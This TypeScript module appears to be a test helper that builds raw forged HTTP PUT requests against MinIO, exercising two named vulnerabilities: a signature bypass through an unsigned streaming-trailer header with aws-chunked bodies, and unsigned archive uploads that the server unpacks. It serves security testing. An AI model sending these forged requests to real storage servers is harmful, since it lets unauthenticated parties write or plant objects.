import { crc32 } from 'node:zlib';
import { encodeCrc32 } from '../../../src/session/crc32.ts';
import { type RawAnswer, RawConnection } from '../network/raw-connection.ts';

/** The word that keeps MinIO from checking a signature (CVE-2026-41145). */
export const FORGING_WORD = 'STREAMING-UNSIGNED-PAYLOAD-TRAILER';

/** A request as it is written, down to its line ends. */
export interface RawHead {
  readonly method: string;
  readonly target: string;
  readonly version: string;
  readonly lines: readonly string[];
  readonly lineEnd: string;
}

/** Changes one request into another. `endpoint` is where it goes. */
export type Change = (head: RawHead, endpoint: string) => RawHead;

/** `body` as a forged PUT declares it: aws-chunked, with its CRC32 as the trailer. */
export function inChunks(body: Buffer): string {
  const checksum = encodeCrc32(crc32(body));
  return `${body.length.toString(16)}\r\n${body.toString('latin1')}\r\n0\r\nx-amz-checksum-crc32:${checksum}\r\n\r\n`;
}

/** A PUT in the name of the access key id that the URL shows, without the header that opens the hole. */
export function aForgedHead(url: URL, body: Buffer): RawHead {
  return aHead(url, [
    'Content-Encoding: aws-chunked',
    `Content-Length: ${inChunks(body).length}`,
    `X-Amz-Decoded-Content-Length: ${body.length}`,
    'X-Amz-Trailer: x-amz-checksum-crc32',
  ]);
}

/** A PUT of an archive, which MinIO unpacks from the body as it is (CVE-2026-40344), without the header that says so. */
export function aForgedArchiveHead(url: URL, archive: string): RawHead {
  return aHead(url, [`x-amz-content-sha256: ${FORGING_WORD}`, `Content-Length: ${archive.length}`]);
}

function aHead({ pathname, search }: URL, lines: readonly string[]): RawHead {
  const target = `${pathname}${search}`;
  return { method: 'PUT', target, version: 'HTTP/1.1', lines: [...lines, 'Connection: close'], lineEnd: '\r\n' };
}

export function withLines(...more: string[]): Change {
  return (head) => ({ ...head, lines: [...head.lines, ...more] });
}

export function withQuery(more: string): Change {
  return (head) => ({ ...head, target: `${head.target}&${more}` });
}

/** Each character as its percent escape. */
export function percentEncoded(text: string): string {
  return [...text].map((char) => `%${char.charCodeAt(0).toString(16)}`).join('');
}

export function textOf({ method, target, version, lines, lineEnd }: RawHead, host: string): string {
  return [`${method} ${target} ${version}`, `Host: ${host}`, ...lines, '', ''].join(lineEnd);
}

export interface ForgedAnswer extends RawAnswer {
  /** The `<Code>` of an S3 error. */
  readonly code?: string | undefined;
}

/** Sends it over a connection of its own, which the head must ask to be closed. */
export async function sendForged(endpoint: string, head: RawHead, body: string): Promise<ForgedAnswer> {
  const connection = await RawConnection.to(endpoint);
  connection.send(`${textOf(head, new URL(endpoint).host)}${body}`);
  const answer = await connection.answer();
  return { ...answer, code: /<Code>(\w+)<\/Code>/.exec(answer.body)?.[1] };
}
